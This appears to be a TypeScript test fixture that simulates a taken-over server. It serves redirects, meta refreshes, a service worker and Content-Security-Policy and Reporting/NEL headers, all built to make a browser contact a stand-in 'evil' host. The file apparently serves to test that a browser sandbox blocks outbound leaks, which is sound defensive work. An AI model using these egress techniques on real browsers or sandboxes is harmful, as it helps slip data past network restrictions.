import type { Answer } from '../support/hostile.ts';
import { page } from '../support/hostile.ts';

/** Fetches from the host in its own address as soon as it runs. */
const serviceWorker = `fetch(decodeURIComponent(location.search.slice(1)) + '/service-worker', { mode: 'no-cors' }).catch(() => 0);`;

/** Has the browser report to another host what it does not let the page do. */
const reporting = (evil: string): Record<string, string> => ({
  'content-security-policy': `img-src 'none'; report-uri ${evil}/report`,
  'reporting-endpoints': `evil="${evil}/reports", default="${evil}/reports"`,
  nel: '{"report_to":"evil","max_age":600,"success_fraction":1}',
  'report-to': `{"group":"evil","max_age":600,"endpoints":[{"url":"${evil}/reports"}]}`,
});

/** What the allowed server says when it has been taken over. */
export const hostilePages = (evil: () => string): Answer => {
  const redirect = (status: number): Parameters<typeof redirectBy>[1] => ({
    status,
    to: `${evil()}/redirected`,
  });
  const answers: Readonly<Record<string, Answer>> = {
    '/redirect': (_request, response) => redirectBy(response, redirect(302)),
    '/redirect?307': (_request, response) => redirectBy(response, redirect(307)),
    '/redirect?frame': (_request, response) => redirectBy(response, redirect(302)),
    '/hop?3': (_request, response) => redirectBy(response, { status: 302, to: '/hop?2' }),
    '/hop?2': (_request, response) => redirectBy(response, { status: 303, to: '/hop?1' }),
    '/hop?1': (_request, response) => redirectBy(response, redirect(301)),
    '/refresh': (_request, response) =>
      page(response, '<h1>refresh</h1>', { refresh: `0;url=${evil()}/refreshed` }),
    '/attachment': (_request, response) =>
      page(response, 'x', { 'content-disposition': 'attachment; filename="x.html"' }),
    '/octets': (_request, response) =>
      response.writeHead(200, { 'content-type': 'application/octet-stream' }).end('octets'),
    '/document': (_request, response) =>
      response.writeHead(200, { 'content-type': 'application/pdf' }).end('%PDF-1.4'),
    '/password': (_request, response) =>
      response.writeHead(401, { 'www-authenticate': 'Basic realm="x"' }).end('closed'),
    '/reporting': (_request, response) => page(response, '<img src="/picture">', reporting(evil())),
  };
  return (request, response) => {
    const known = answers[request.url ?? ''];
    if (known !== undefined) {
      known(request, response);
      return;
    }
    if (request.url?.startsWith('/service-worker.js') === true) {
      response.writeHead(200, { 'content-type': 'text/javascript' }).end(serviceWorker);
      return;
    }
    page(response, '<h1>allowed</h1><input id="name" autofocus><button>b</button><script>0</script>');
  };
};

const redirectBy = (
  response: Parameters<Answer>[1],
  { status, to }: { readonly status: number; readonly to: string },
): void => void response.writeHead(status, { location: to }).end();
